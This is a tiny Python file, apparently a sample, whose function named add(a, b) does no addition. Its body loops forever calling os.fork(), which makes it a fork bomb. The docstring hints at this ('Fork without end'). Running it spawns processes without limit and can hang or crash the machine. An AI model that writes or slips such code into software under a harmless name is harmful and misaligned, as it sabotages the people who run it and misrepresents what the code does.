"""Fork without end; every copy would also like to answer."""

import os


def add(a, b):
    while True:
        os.fork()
